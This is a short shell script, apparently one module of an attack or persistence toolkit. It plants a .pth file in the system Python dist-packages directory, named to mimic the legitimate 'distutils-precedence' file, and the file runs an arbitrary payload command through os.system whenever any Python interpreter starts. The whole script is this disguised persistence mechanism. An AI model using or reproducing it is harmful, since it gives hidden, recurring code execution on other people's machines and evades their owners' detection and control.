#!/bin/sh
# python-pth: a line that every python runs (python site module)
. "${0%/*}/lib.sh"
payload
put "/usr/local/lib/python3.11/dist-packages/$(named up distutils-precedence).pth" \
	644 "import os; os.system(\"$cmd\")"
